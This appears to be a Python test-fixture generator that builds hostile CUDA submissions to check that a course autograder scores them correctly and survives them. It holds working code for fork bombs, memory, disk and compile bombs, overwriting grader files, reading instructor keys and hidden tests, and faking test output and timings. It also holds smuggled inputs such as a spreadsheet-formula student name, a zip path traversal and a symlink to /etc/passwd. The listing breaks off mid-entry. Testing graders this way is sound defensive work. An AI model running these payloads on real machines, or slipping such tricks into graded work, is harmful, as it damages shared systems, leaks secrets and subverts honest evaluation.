"""The hostile-submission corpus: one submission per way of cheating or of harming the grading
machine that we know of, each with the score it must get.

Most attacks target exercise 03a (a kernel exercise: on a machine without a GPU its tests run
on the CPU backend) and are built from the public stub, so they need nothing secret; a few start
from the instructor solution (a correct kernel that also does something hostile) and are
skipped where the solutions are sealed. `python3 hostile.py DIR` writes the corpus into DIR as
a batch of submissions (one folder or archive per student), for any grader to try.

Expected outcomes, per attack, for 03a without its speed test (pending without a GPU):
  zero       0 points: the attack computes nothing itself (or only on the host)
  full       every correctness point: the kernel is right, and the hostile side effect
             (a leftover process, writes outside its folder, reading secrets...) changes
             nothing for anyone
  fixed      only the tests at fixed public shapes: the kernel is right only there
  refused    the submission is refused with a message (roster note), nothing is built
and, for the attacks on the speed test (GPU only), with every correctness point:
  fair       the speed points of its real kernel (the solution's, so within noise of full)
  slow       no speed points: the timed repetitions were not all computed
"""

import io
import os
import sys
import tarfile
import zipfile
from dataclasses import dataclass, field
from typing import Callable, Dict, Optional

HERE = os.path.dirname(os.path.abspath(__file__))
ROOT = os.path.dirname(os.path.dirname(os.path.dirname(HERE)))
EXERCISE = "03a_bounds"
FILE = "bounds.cuh"
LAUNCHER = ("void launch_tiled_gemm(const float* A, const float* B, float* C, int M, int N, "
            "int K) {\n")
PUBLIC_SHAPES = "{1, 1, 1}, {1, 4097, 3}, {4097, 1, 3}, {127, 33, 1025}"


@dataclass
class Attack:
    name: str
    what: str
    expect: str                       # zero | full | fixed | refused
    make: Callable[["Sources"], Dict[str, bytes]]
    needs_solution: bool = False
    needs_sandbox: bool = False       # harms the machine without one (fork bomb, memory ...)
    archive: Optional[str] = None     # "zip" / "tar": submitted as an archive
    symlink: Optional[str] = None     # submit FILE as a symbolic link to this path
    student: Optional[str] = None     # a name of its own (else the attack's)
    gpu_only: bool = False            # aims at the speed test: run on a GPU only


@dataclass
class Sources:
    stub: str
    solution: Optional[str]
    root: str


def at_launcher(text, code):
    """`code` as the first statements of the launcher."""
    if LAUNCHER not in text:
        raise ValueError("the launcher's first line is not where the corpus expects it")
    return text.replace(LAUNCHER, LAUNCHER + code, 1)


def after_includes(text, code):
    marker = '#include "exercises/support/exercise.hpp"\n'
    return text.replace(marker, marker + code, 1)


def files(text):
    return {FILE: text.encode()}


def stub_with(code, includes=""):
    return lambda s: files(after_includes(at_launcher(s.stub, code), includes))


def solution_with(code, includes="", helpers=""):
    return lambda s: files(after_includes(at_launcher(s.solution, code), includes + helpers))


HOST_GEMM = """  {  // on the host, no kernel
    std::vector<float> a(size_t(M) * K), b(size_t(K) * N), c(size_t(M) * N);
    cudaMemcpy(a.data(), A, a.size() * 4, cudaMemcpyDeviceToHost);
    cudaMemcpy(b.data(), B, b.size() * 4, cudaMemcpyDeviceToHost);
    for (int i = 0; i < M; ++i)
      for (int j = 0; j < N; ++j) {
        float s = 0;
        for (int k = 0; k < K; ++k) s += a[size_t(i) * K + k] * b[size_t(k) * N + j];
        c[size_t(i) * N + j] = s;
      }
    cudaMemcpy(C, c.data(), c.size() * 4, cudaMemcpyHostToDevice);
    return;
  }
"""

FAKE_RESULTS = """
#include <fstream>
#include <sstream>
namespace {
// Reads the runner's command line and writes a result for every call before anything runs.
struct FakeResults {
  FakeResults() {
    std::ifstream cmd("/proc/self/cmdline");
    std::string all((std::istreambuf_iterator<char>(cmd)), std::istreambuf_iterator<char>());
    std::vector<std::string> args;
    std::stringstream split(all);
    for (std::string a; std::getline(split, a, '\\0');) args.push_back(a);
    if (args.size() < 3) return;
    std::ifstream request(args[1]);
    int i = 0;
    for (std::string line; std::getline(request, line); ++i) {
      std::ofstream(args[2] + "/" + std::to_string(i) + ".txt") << "ok launches=1\\n";
      std::ofstream(args[2] + "/" + std::to_string(i) + ".bin") << std::string(1 << 20, '\\0');
    }
    std::ofstream(args[2] + "/done");
    std::printf("All tests passed (99 assertions in 9 test cases)\\nGRADE_RATIO 99\\n");
    std::fflush(stdout);
    std::_Exit(0);
  }
} fake_results;
}  // namespace
"""

WRITE_OUTSIDE = """
#include <dirent.h>
#include <limits.h>
#include <stdlib.h>
#include <fstream>
namespace {
// Tries to damage what it can reach: other binaries, the build, the kit, the grades.
bool off_limits(const std::string& dir) {  // never the system, even where nothing stops it
  char real[4096];
  if (!realpath(dir.c_str(), real)) return true;
  const std::string r = real;
  for (const char* system : {"/usr", "/etc", "/lib", "/bin", "/sbin", "/proc", "/sys", "/dev",
                             "/boot", "/var", "/opt", "/run", "/snap"})
    if (r.rfind(system, 0) == 0) return true;
  return r == "/";
}
bool target(const std::string& name) {
  auto ends = [&](const std::string& tail) {
    return name.size() >= tail.size() && name.compare(name.size() - tail.size(), tail.size(), tail) == 0;
  };
  return ends("_runner") || ends("_runner_cpu") || ends("_tests") || ends("_tests_cpu") ||
         name == "exercise_check" || name == "exercise_reference" || name == "roster.csv" ||
         name == "results.json" || name == "manifest.json" || name == "tests.json" || ends(".a");
}
void scribble(const std::string& dir, int depth) {
  if (depth > 6 || off_limits(dir)) return;
  DIR* d = opendir(dir.c_str());
  if (!d) return;
  while (dirent* e = readdir(d)) {
    const std::string name = e->d_name;
    if (name == "." || name == "..") continue;
    const std::string path = dir + "/" + name;
    if (e->d_type == DT_DIR) { scribble(path, depth + 1); continue; }
    if (target(name)) {
      std::ofstream f(path, std::ios::trunc);
      f << "#!/bin/sh\\necho 'All tests passed'\\necho 'GRADE_RATIO 99'\\nexit 0\\n";
    }
  }
  closedir(d);
}
}  // namespace
"""


def write_outside(s):
    code = "  for (const char* top : {\"%s\", \"..\", \"../..\", \"../../..\"})\n" \
           "    scribble(top, 0);\n" % s.root
    return files(after_includes(at_launcher(s.solution, code), WRITE_OUTSIDE))


READ_SECRETS = """
#include <fstream>
#include <iostream>
namespace {
void show(const std::string& path) {
  std::ifstream in(path);
  if (!in) return;
  std::cout << "=== " << path << "\\n" << in.rdbuf() << std::endl;
}
}  // namespace
"""


def read_secrets(s):
    code = "".join(f"  show(\"{p}\");\n" for p in (
        f"{s.root}/exercises/instructor/hidden/tests.json",
        f"{s.root}/exercises/instructor/solutions/03a_bounds/bounds.cuh",
        f"{s.root}/exercises/instructor.key",
        f"{os.path.dirname(s.root)}/shared/ci-secrets/exercises.key",
        "../../private/expect.txt"))
    # Then fail, so that the report shows the output (reports show failing tests' output).
    return files(after_includes(at_launcher(s.stub, code + "  std::abort();\n"),
                                "#include <cstdlib>\n" + READ_SECRETS))


def shape_table(s):
    code = ("  {\n    const int shapes[][3] = {" + PUBLIC_SHAPES + "};\n"
            "    bool known = false;\n"
            "    for (auto& sh : shapes) known |= sh[0] == M && sh[1] == N && sh[2] == K;\n"
            "    if (!known) return;  // only where the public tests look\n  }\n")
    return files(at_launcher(s.solution, code))


def include_solution(s):
    path = os.path.join(s.root, "exercises", "instructor", "solutions", EXERCISE, FILE)
    return files(f'#pragma once\n#include "{path}"\n')


DAEMON = """  if (M == 1 && N == 1) {  // a grandchild that leaves the session and keeps stdout open
    if (fork() == 0) {
      setsid();
      if (fork() == 0) { sleep(120); _exit(0); }
      _exit(0);
    }
  }
"""

FORK_BOMB = """  for (int i = 0; i < 100000; ++i) {  // children that wait, until fork() fails
    const pid_t child = fork();
    if (child < 0) break;
    if (child == 0) { sleep(5); _exit(0); }
  }
  sleep(5);
"""

MEMORY_HOG = """  {
    std::vector<char*> blocks;
    for (int i = 0; i < 64; ++i) {  // 64 GB, touched
      char* p = static_cast<char*>(std::malloc(size_t(1) << 30));
      if (!p) break;
      std::memset(p, 1, size_t(1) << 30);
      blocks.push_back(p);
    }
  }
"""

OUTPUT_FLOOD = """  {
    std::string line(1023, 'x');
    for (int i = 0; i < 600 * 1024; ++i) std::puts(line.c_str());  // 600 MB
  }
"""

DISK_FILL = """  {
    FILE* f = std::fopen("fill.bin", "wb");
    std::vector<char> mb(1 << 20, 7);
    for (int i = 0; f && i < 4096; ++i) if (std::fwrite(mb.data(), 1, mb.size(), f) != mb.size()) break;
    if (f) std::fclose(f);
  }
"""

SPIN_THREAD = """  std::thread([] { for (volatile unsigned long i = 0;; ++i) {} }).detach();
"""

COMPILE_BOMB = """#define B0 x x
#define B1 B0 B0
#define B2 B1 B1
#define B3 B2 B2
#define B4 B3 B3
#define B5 B4 B4
#define B6 B5 B5
#define B7 B6 B6
#define B8 B7 B7
#define B9 B8 B8
#define B10 B9 B9
#define B11 B10 B10
#define B12 B11 B11
#define B13 B12 B12
#define B14 B13 B13
#define B15 B14 B14
#define B16 B15 B15
#define B17 B16 B16
#define B18 B17 B17
#define B19 B18 B18
#define B20 B19 B19
#define B21 B20 B20
#define B22 B21 B21
#define B23 B22 B22
#define B24 B23 B23
#define B25 B24 B24
#define B26 B25 B25
#define B27 B26 B26
#define B28 B27 B27
#define B29 B28 B28
#define B30 B29 B29
int compile_bomb[] = {B30};
"""

REPLACE_MEMBER = """
namespace tutorial {
// Every function of the runner library's launch-record member, defined here: if the linker
// took that member only when something was still missing, these would replace it, and the
// launch count the runner checks would say a kernel ran.
namespace { LaunchRecord forged_record; }
const LaunchRecord& last_launch() { return forged_record; }
void record_launch(const LaunchRecord& record) { forged_record = record; }
long launch_count() { static long calls = 0; return ++calls; }  // "one more" every time
void validate_launch(dim3, dim3) {}
void allow_dynamic_smem(const void*, size_t) {}
void ensure_dynamic_smem(const void*, size_t) {}
}  // namespace tutorial
"""

BORROW_RESULTS = """
#include <limits.h>
#include <unistd.h>
#include <cstdio>
namespace {
// At exit, swaps its results folder for a link to the same test's results of the student
// graded just before it (the grader's folders are numbered <work>/private/<slot>/<n>-<tag>).
struct BorrowResults {
  ~BorrowResults() {
    char cwd[PATH_MAX];
    if (!getcwd(cwd, sizeof cwd)) return;
    const std::string run = cwd;  // <work>/students/<slot>/runs/<n>-<tag>
    const size_t runs = run.rfind("/runs/");
    if (runs == std::string::npos) return;
    const std::string home = run.substr(0, runs), tag = run.substr(runs + 6);
    const std::string students = home.substr(0, home.rfind('/'));
    const int slot = std::atoi(home.substr(home.rfind('/') + 1).c_str());
    if (slot == 0) return;
    char previous[16];
    std::snprintf(previous, sizeof previous, "%04d", slot - 1);
    const std::string target = students.substr(0, students.rfind('/')) + "/private/" +
                               previous + "/" + tag + "/results";
    std::rename((run + "/results").c_str(), (run + "/mine").c_str());
    symlink(target.c_str(), (run + "/results").c_str());
  }
} borrow_results;
}  // namespace
"""

STATIC_EXIT = """
namespace {
struct LeaveEarly { LeaveEarly() { std::exit(0); } } leave_early;
}  // namespace
"""

REDEFINE = """#define REQUIRE(...) (void)0
#define CHECK(...) (void)0
#define INFO(...) (void)0
#define REQUIRE_THROWS_AS(...) (void)0
"""

CHAPTER_CALL = "  ch03::launch_tiled_gemm<TILE_WIDTH>(A, B, C, M, N, K);\n  return;\n"

# Attacks on the timing (GPU): each starts from the solution's launcher.
STREAM_ESCAPE = """  {  // launch on a stream that does not wait for the default one, return at once
    static cudaStream_t side = [] { cudaStream_t s; cudaStreamCreateWithFlags(&s, cudaStreamNonBlocking); return s; }();
    const dim3 block(TILE_WIDTH, TILE_WIDTH);
    const dim3 grid(tutorial::ceil_div(N, TILE_WIDTH), tutorial::ceil_div(M, TILE_WIDTH));
    tiled_gemm<TILE_WIDTH><<<grid, block, 0, side>>>(A, B, C, M, N, K);
    tutorial::record_launch(tutorial::LaunchRecord{});
    return;
  }
"""

REPLAY = """  {  // compute the first call of a shape, replay that answer afterwards
    static std::vector<float> saved;
    static int saved_m = 0, saved_n = 0;
    if (saved_m == M && saved_n == N && !saved.empty()) {
      cudaMemcpy(C, saved.data(), saved.size() * 4, cudaMemcpyHostToDevice);
      tutorial::record_launch(tutorial::LaunchRecord{});
      return;
    }
    saved.assign(size_t(M) * N, 0.0f);
    saved_m = M; saved_n = N;
    const dim3 block(TILE_WIDTH, TILE_WIDTH);
    const dim3 grid(tutorial::ceil_div(N, TILE_WIDTH), tutorial::ceil_div(M, TILE_WIDTH));
    tutorial::launch(tiled_gemm<TILE_WIDTH>, grid, block, 0, A, B, C, M, N, K);
    cudaMemcpy(saved.data(), C, saved.size() * 4, cudaMemcpyDeviceToHost);
    return;
  }
"""

LAST_ONLY = """  {  // count the calls; compute only the last timed repetition (reps= from the request)
    static int calls = 0, reps = -1;
    if (reps < 0) {
      std::ifstream cmd("/proc/self/cmdline");
      std::string all((std::istreambuf_iterator<char>(cmd)), std::istreambuf_iterator<char>());
      std::ifstream request(all.substr(all.find('\\0') + 1, all.find('\\0', all.find('\\0') + 1) - all.find('\\0') - 1));
      std::string text((std::istreambuf_iterator<char>(request)), std::istreambuf_iterator<char>());
      const size_t at = text.find("reps=");
      reps = at == std::string::npos ? 0 : std::atoi(text.c_str() + at + 5);
    }
    ++calls;
    if (reps > 0 && calls > 1 && calls < reps + 1) {  // the warm-up call is 1
      tutorial::record_launch(tutorial::LaunchRecord{});
      return;
    }
  }
"""

INCREMENTAL_KERNEL = """
namespace {
// flags[r] = 1 where row r of a (K floats) differs from row r of saved.
__global__ void rows_changed(const float* a, const float* saved, int M, int K, int* flags) {
  const int r = blockIdx.x;
  for (int k = threadIdx.x; r < M && k < K; k += blockDim.x)
    if (a[size_t(r) * K + k] != saved[size_t(r) * K + k]) flags[r] = 1;
}
}  // namespace
"""

INCREMENTAL = """  {  // keep a copy of A; when few of its rows changed, recompute only those rows of C
    static float* saved = nullptr;
    static int* flags = nullptr;
    static const float *lastA = nullptr, *lastB = nullptr;
    static float* lastC = nullptr;
    static int sm = -1, sn = -1, sk = -1;
    const size_t bytes = size_t(M) * K * sizeof(float);
    if (saved && A == lastA && B == lastB && C == lastC && M == sm && N == sn && K == sk) {
      cudaMemset(flags, 0, size_t(M) * sizeof(int));
      rows_changed<<<M, 256>>>(A, saved, M, K, flags);
      std::vector<int> changed(static_cast<size_t>(M), 0);
      cudaMemcpy(changed.data(), flags, changed.size() * sizeof(int), cudaMemcpyDeviceToHost);
      int count = 0;
      for (int f : changed) count += f;
      if (count * 8 < M) {
        for (int r = 0; r < M; ++r)
          if (changed[size_t(r)])
            tutorial::launch(tiled_gemm<TILE_WIDTH>, dim3(tutorial::ceil_div(N, TILE_WIDTH), 1),
                             dim3(TILE_WIDTH, TILE_WIDTH), 0, A + size_t(r) * K, B,
                             C + size_t(r) * N, 1, N, K);
        cudaMemcpy(saved, A, bytes, cudaMemcpyDeviceToDevice);
        return;
      }
    } else {
      cudaFree(saved);
      cudaFree(flags);
      cudaMalloc(&saved, bytes);
      cudaMalloc(&flags, size_t(M) * sizeof(int));
      lastA = A; lastB = B; lastC = C; sm = M; sn = N; sk = K;
    }
    cudaMemcpy(saved, A, bytes, cudaMemcpyDeviceToDevice);  // then the whole product below
  }
"""

FAKE_TIME = """
#include <fstream>
namespace {
// At exit, overwrite the timed call's result line with a tiny time.
struct FakeTime {
  ~FakeTime() {
    std::ifstream cmd("/proc/self/cmdline");
    std::string all((std::istreambuf_iterator<char>(cmd)), std::istreambuf_iterator<char>());
    const size_t a = all.find('\\0') + 1, b = all.find('\\0', a) + 1, c = all.find('\\0', b);
    std::ofstream(all.substr(b, c - b) + "/0.txt") << "ok launches=99 median_ms=0.000001\\n";
  }
} fake_time;
}  // namespace
"""


# ---- Students who share a machine (the `user` sandbox, a Gradescope container) -----------
# A right kernel that leaves things for the next student: files at the top of every shared
# temporary folder and in a world-writable folder inside one, a FIFO, System V shared memory,
# a semaphore set and a message queue (all readable by everyone), and a process that leaves
# its session and keeps listening on an abstract unix socket. The reader (graded after it, in
# the same batch and in a later one) is a right kernel that aborts if it finds any of it.
PLANT_PATHS = ("/tmp/planted_by_tamper", "/var/tmp/planted_by_tamper",
               "/dev/shm/planted_by_tamper", "/run/lock/planted_by_tamper",
               "/tmp/planted_dir_by_tamper/inside", "/tmp/planted_fifo_by_tamper")
PLANT_KEY = "0x7a6d7072"
SHARED_INCLUDES = ("#include <fcntl.h>\n#include <sys/ipc.h>\n#include <sys/msg.h>\n"
                   "#include <sys/sem.h>\n#include <sys/shm.h>\n#include <sys/socket.h>\n"
                   "#include <sys/stat.h>\n#include <sys/un.h>\n#include <signal.h>\n")
PLANT = r"""
namespace {
void plant() {
  umask(0);
  mkdir("/tmp/planted_dir_by_tamper", 0777);
  mkfifo("/tmp/planted_fifo_by_tamper", 0666);
  for (const char* p : {"/tmp/planted_by_tamper", "/var/tmp/planted_by_tamper",
                        "/dev/shm/planted_by_tamper", "/run/lock/planted_by_tamper",
                        "/tmp/planted_dir_by_tamper/inside"})
    if (FILE* f = std::fopen(p, "w")) { std::fputs("planted by tamper\n", f); std::fclose(f); }
  const int shm = shmget(%(key)s, 4096, IPC_CREAT | 0666);
  if (shm >= 0) {
    void* m = shmat(shm, nullptr, 0);
    if (m != reinterpret_cast<void*>(-1)) { std::strcpy(static_cast<char*>(m), "planted by tamper"); shmdt(m); }
  }
  semget(%(key)s + 1, 1, IPC_CREAT | 0666);
  msgget(%(key)s + 2, IPC_CREAT | 0666);
  if (fork() == 0) {  // a listener that leaves the session and outlives the run
    setsid();
    if (fork() == 0) {
      const int s = socket(AF_UNIX, SOCK_STREAM, 0);
      sockaddr_un a{};
      a.sun_family = AF_UNIX;
      std::memcpy(a.sun_path + 1, "planted_by_tamper", 17);
      bind(s, reinterpret_cast<sockaddr*>(&a), sizeof(sa_family_t) + 18);
      listen(s, 4);
      for (;;) { const int c = accept(s, nullptr, nullptr); if (c >= 0) { (void)!write(c, "planted", 7); close(c); } }
    }
    _exit(0);
  }
}
}  // namespace
""" % {"key": PLANT_KEY}
READ_PLANTED = r"""
namespace {
// Aborts (every test fails) if anything of plant() reached this student.
void find_planted() {
  char text[64] = {0};
  for (const char* p : {"/tmp/planted_by_tamper", "/var/tmp/planted_by_tamper",
                        "/dev/shm/planted_by_tamper", "/run/lock/planted_by_tamper",
                        "/tmp/planted_dir_by_tamper/inside"})
    if (FILE* f = std::fopen(p, "r")) {
      const size_t n = std::fread(text, 1, sizeof text - 1, f);
      text[n] = 0;
      std::fclose(f);
      std::fprintf(stderr, "found %%s: %%s\n", p, text);
      std::abort();
    }
  struct stat info;
  if (stat("/tmp/planted_fifo_by_tamper", &info) == 0) { std::fprintf(stderr, "found the FIFO\n"); std::abort(); }
  const int shm = shmget(%(key)s, 0, 0);
  if (shm >= 0) { std::fprintf(stderr, "found the shared-memory segment %%d\n", shm); std::abort(); }
  if (semget(%(key)s + 1, 0, 0) >= 0) { std::fprintf(stderr, "found the semaphore set\n"); std::abort(); }
  if (msgget(%(key)s + 2, 0) >= 0) { std::fprintf(stderr, "found the message queue\n"); std::abort(); }
  const int s = socket(AF_UNIX, SOCK_STREAM, 0);
  sockaddr_un a{};
  a.sun_family = AF_UNIX;
  std::memcpy(a.sun_path + 1, "planted_by_tamper", 17);
  if (connect(s, reinterpret_cast<sockaddr*>(&a), sizeof(sa_family_t) + 18) == 0) {
    std::fprintf(stderr, "found the listener\n");
    std::abort();
  }
  close(s);
}
}  // namespace
""" % {"key": PLANT_KEY}
SHM_HOG = r"""
namespace {
// 4 x 256 MB of System V shared memory, touched and left behind (once per run).
void hog() {
  static bool done = false;
  if (done) return;
  done = true;
  for (int i = 0; i < 4; ++i) {
    const int id = shmget(IPC_PRIVATE, size_t(256) << 20, IPC_CREAT | 0600);
    if (id < 0) continue;
    void* m = shmat(id, nullptr, 0);
    if (m != reinterpret_cast<void*>(-1)) { std::memset(m, 1, size_t(256) << 20); shmdt(m); }
  }
}
}  // namespace
"""
SLEEPER = "  sleep(100000);  // every call: no CPU, no answer\n"
PIPE_WAIT = ("  {  // read from a pipe that nobody writes: blocked for ever\n"
             "    int fds[2];\n    char c;\n    if (pipe(fds) == 0) (void)!read(fds[0], &c, 1);\n  }\n")
SPINNER = "  for (volatile unsigned long i = 0;; ++i) {}  // every call: busy, never done\n"
TMP_FILL = r"""  {  // 64 MB files into /dev/shm (memory) and /tmp until something refuses
    std::vector<char> block(size_t(1) << 20, 7);
    for (int i = 0; i < 100000; ++i) {
      char name[64];
      std::snprintf(name, sizeof name, "%s/fill_%d", i % 2 ? "/tmp" : "/dev/shm", i);
      FILE* f = std::fopen(name, "wb");
      if (!f) break;
      bool ok = true;
      for (int mb = 0; ok && mb < 64; ++mb) ok = std::fwrite(block.data(), 1, block.size(), f) == block.size();
      std::fclose(f);
      if (!ok) break;
    }
  }
"""
FORK_HOG = r"""  for (int i = 0; i < 6; ++i)  // 6 processes of 2 GB each: every one under its own limit
    if (fork() == 0) {
      execl("/bin/sh", "sh", "-c", "python3 -c 'import time; b = bytearray(2 << 30); "
            "time.sleep(60)'", static_cast<char*>(nullptr));
      _exit(0);
    }
  sleep(60);
"""
ESCAPE_NAME = "e\x1b[31mscape\x1b[0m\x1b]0;pwned\x07\u202eeman"
# The `user`-sandbox part of the self-test grades these (by name) again with no namespaces.
SHARED_MACHINE = ("tamper_plant", "tamper_read", "shm_hog", "tmp_fill")


# ---- Answer tables (host exercises) ---------------------------------------------------------
# Every function returns the expected value the public tests.json gives for the arguments of
# a fixed call, 0 for any other: what a student could do without computing anything. Since
# every test of these exercises also calls each function at drawn arguments, the table scores
# at most TABLE_MAX.
TABLE_FILES = {"06c_predict": "predict.hpp", "01b_sectors": "sectors.hpp",
               "06b_bank_conflicts": "bank_conflicts.hpp"}
TABLE_MAX = {"06c_predict": 0, "01b_sectors": 0, "06b_bank_conflicts": 0}


def answer_table(root, exercise):
    """The stub of a host exercise with every todo replaced by a lookup in the public tests'
    fixed calls."""
    import json
    import re
    folder = os.path.join(root, "exercises", exercise)
    with open(os.path.join(folder, "tests.json")) as f:
        tests = json.load(f)["tests"]
    rows = {}
    for t in tests:
        for c in t.get("calls", []):
            if "call" in c and "args" in c and not isinstance(c["expect"], (str, list)):
                rows.setdefault(c["call"], []).append(list(c["args"]) + [c["expect"]])
    with open(os.path.join(folder, TABLE_FILES[exercise])) as f:
        stub = f.read()

    def lookup(m):
        kind, name, args = m.group(1), m.group(2), m.group(3)
        table = rows.get(name, [])
        if not table:
            return f"return {kind}{{}};"
        width = len(table[0]) - 1
        body = ", ".join("{" + ", ".join(repr(float(v)) for v in row) + "}" for row in table)
        return ("{ const double in[] = {" + ", ".join(f"double({a.strip()})" for a in args.split(","))
                + "}; static const double rows[][" + str(width + 1) + "] = {" + body + "};\n"
                "    for (const auto& row : rows) { bool same = true;\n"
                "      for (int i = 0; i < " + str(width) + "; ++i) same = same && row[i] == in[i];\n"
                "      if (same) return static_cast<" + kind + ">(row[" + str(width) + "]); }\n"
                "    return " + kind + "{}; }")
    return re.sub(r'return exercise::todo<(\w+)>\("[\w ]+: (\w+)", ([^;]*)\);', lookup, stub)


def attacks():
    sys_includes = "#include <cstdlib>\n#include <cstdio>\n#include <cstring>\n#include <vector>\n" \
                   "#include <thread>\n#include <unistd.h>\n#include <cuda_runtime.h>\n"
    return [
        Attack("exit_zero", "std::exit(0) before computing", "zero",
               stub_with("  std::exit(0);\n", sys_includes)),
        Attack("quick_exit", "std::quick_exit(0)", "zero",
               stub_with("  std::quick_exit(0);\n", sys_includes)),
        Attack("underscore_exit", "_exit(0)", "zero", stub_with("  _exit(0);\n", sys_includes)),
        Attack("exit_77", "exit(77), the 'skipped' code, to turn tests into pending", "zero",
               stub_with("  std::exit(77);\n", sys_includes)),
        Attack("abort", "std::abort()", "zero", stub_with("  std::abort();\n", sys_includes)),
        Attack("static_exit", "exit(0) from a global constructor, before main", "zero",
               lambda s: files(after_includes(s.stub, "#include <cstdlib>\n" + STATIC_EXIT))),
        Attack("redefine_require", "#define REQUIRE/CHECK as no-ops, compute nothing", "zero",
               lambda s: files(at_launcher(s.stub, "  return;\n").replace(
                   "#pragma once\n", "#pragma once\n" + REDEFINE, 1))),
        Attack("fake_output", "print 'All tests passed' and GRADE_RATIO 99, exit 0", "zero",
               stub_with('  std::printf("All tests passed (8 assertions in 8 test cases)\\n'
                         'GRADE_RATIO 99\\n"); std::fflush(stdout); std::exit(0);\n',
                         sys_includes)),
        Attack("fake_result_files", "write a result file for every call of the request", "zero",
               lambda s: files(after_includes(s.stub, sys_includes + FAKE_RESULTS))),
        Attack("chapter_kernel", "#include the chapter's kernel and call it", "zero",
               stub_with(CHAPTER_CALL, '#include "03_bounds/kernels.cuh"\n')),
        Attack("chapter_kernel_absolute", "the same with an absolute #include path", "zero",
               lambda s: stub_with(CHAPTER_CALL, f'#include "{s.root}/03_bounds/kernels.cuh"\n')(s)),
        Attack("chapter_kernel_declared", "declare the chapter's launcher and call it", "zero",
               stub_with(CHAPTER_CALL, "namespace ch03 { template <int T> void launch_tiled_gemm("
                         "const float*, const float*, float*, int, int, int); }\n")),
        Attack("include_solution", "#include the unsealed instructor solution", "zero",
               include_solution, needs_solution=True),
        Attack("cpu_reference", "call the harness's CPU GEMM (tutorial::cpu_gemm)", "zero",
               stub_with("  { std::vector<float> a(size_t(M) * K), b(size_t(K) * N), c(size_t(M) * N);\n"
                         "    cudaMemcpy(a.data(), A, a.size() * 4, cudaMemcpyDeviceToHost);\n"
                         "    cudaMemcpy(b.data(), B, b.size() * 4, cudaMemcpyDeviceToHost);\n"
                         "    tutorial::cpu_gemm(a.data(), b.data(), c.data(), M, N, K);\n"
                         "    cudaMemcpy(C, c.data(), c.size() * 4, cudaMemcpyHostToDevice); return; }\n",
                         sys_includes + "namespace tutorial { void cpu_gemm(const float*, const float*, "
                         "float*, int, int, int); }\n")),
        Attack("cublas", "call cuBLAS SGEMM", "zero",
               stub_with("  { cublasHandle_t h; cublasCreate(&h); const float one = 1, zero = 0;\n"
                         "    cublasSgemm(h, CUBLAS_OP_N, CUBLAS_OP_N, N, M, K, &one, B, N, A, K, &zero, C, N);\n"
                         "    cudaDeviceSynchronize(); cublasDestroy(h); return; }\n",
                         "#include <cublas_v2.h>\n")),
        Attack("replace_member", "compute C on the host and define the runner library's "
               "launch counter so that it reports a launch", "zero",
               lambda s: files(after_includes(at_launcher(s.stub, HOST_GEMM), REPLACE_MEMBER
                                              + sys_includes))),
        Attack("borrow_results", "at exit, replace its results folder with a link to the "
               "results of the student graded before it (the correct control)", "zero",
               lambda s: files(after_includes(s.stub, sys_includes + BORROW_RESULTS)),
               student="zz_control_solution_borrow"),
        Attack("host_compute", "compute C on the host and copy it back, no kernel", "zero",
               stub_with(HOST_GEMM, sys_includes)),
        Attack("shape_table", "a right kernel, but only at the shapes the public tests use",
               "fixed", shape_table, needs_solution=True),
        Attack("daemon", "a right kernel; a grandchild leaves the session, keeps stdout open "
               "and sleeps 120 s", "full", solution_with(DAEMON, sys_includes),
               needs_solution=True),
        Attack("write_outside", "a right kernel that overwrites every runner, checker, library, "
               "manifest and roster it can reach", "full", write_outside, needs_solution=True,
               needs_sandbox=True),
        Attack("read_secrets", "print the hidden tests, the solution, the key and the "
               "grader's expectations if it can read them, then fail (failing tests' output "
               "is shown)", "zero", read_secrets),
        Attack("spin_thread", "a right kernel that leaves a thread spinning", "full",
               solution_with(SPIN_THREAD, sys_includes), needs_solution=True),
        Attack("output_flood", "600 MB on stdout", "zero", stub_with(OUTPUT_FLOOD, sys_includes)),
        Attack("disk_fill", "write a 4 GB file", "zero", stub_with(DISK_FILL, sys_includes),
               needs_sandbox=True),
        Attack("fork_bomb", "fork until it fails", "zero", stub_with(FORK_BOMB, sys_includes),
               needs_sandbox=True),
        Attack("memory_hog", "allocate and touch 64 GB", "zero",
               stub_with(MEMORY_HOG, sys_includes), needs_sandbox=True),
        Attack("compile_bomb", "a macro that expands to 2^31 tokens", "zero",
               lambda s: files(after_includes(s.stub, COMPILE_BOMB)), needs_sandbox=True),
        Attack("stream_escape", "launch on a non-blocking stream and return before the "
               "kernel ends", "fair", solution_with(STREAM_ESCAPE, sys_includes),
               needs_solution=True, gpu_only=True),
        Attack("replay", "compute a shape once, replay the saved answer on later calls",
               "slow", solution_with(REPLAY, sys_includes), needs_solution=True, gpu_only=True),
        Attack("last_only", "compute only the last timed repetition (the count read from the "
               "request)", "slow", solution_with(LAST_ONLY, sys_includes + "#include <fstream>\n"),
               needs_solution=True, gpu_only=True),
        Attack("incremental", "keep a copy of the input and recompute only the rows of the "
               "output whose input row changed since the last call", "fair",
               lambda s: files(after_includes(at_launcher(s.solution, INCREMENTAL),
                                              sys_includes + INCREMENTAL_KERNEL)),
               needs_solution=True, gpu_only=True),
        Attack("fake_time", "overwrite the timed result file with a tiny time at exit", "fair",
               lambda s: files(after_includes(s.solution, sys_includes + FAKE_TIME)),
               needs_solution=True, gpu_only=True),
        Attack("symlink", "the student file is a symbolic link to /etc/passwd", "refused",
               lambda s: {}, symlink="/etc/passwd"),
        Attack("collision_dir", "alice/ and alice.zip: two submissions, one name", "refused",
               lambda s: files(s.stub), student="alice"),
        Attack("collision_zip", "alice/ and alice.zip: two submissions, one name", "refused",
               lambda s: files(s.stub), student="alice", archive="zip"),
        Attack("dotdot_zip", "a zip with a ../ member", "refused",
               lambda s: {"../escape.cuh": b"int x;\n", FILE: s.stub.encode()}, archive="zip"),
        Attack("formula_name", "a student name that is a spreadsheet formula", "zero",
               lambda s: files(s.stub), student="=2+5+cmd|' calc'!A0"),
        # Students who share a machine, the time budget, names (issue 32 items 4-6).
        Attack("tamper_plant", "a right kernel that plants files, a FIFO and a world-writable "
               "folder in /tmp, /var/tmp, /dev/shm and /run/lock, System V shared memory, a "
               "semaphore set and a message queue, and a listener on an abstract socket that "
               "leaves its session", "full",
               solution_with("  plant();\n", sys_includes + SHARED_INCLUDES, PLANT),
               needs_solution=True, needs_sandbox=True),
        Attack("tamper_read", "a right kernel graded after tamper_plant that aborts if it "
               "finds any of what tamper_plant left", "full",
               solution_with("  find_planted();\n", sys_includes + SHARED_INCLUDES,
                             READ_PLANTED), needs_solution=True, needs_sandbox=True),
        Attack("shm_hog", "a right kernel that leaves 4 x 256 MB of System V shared memory",
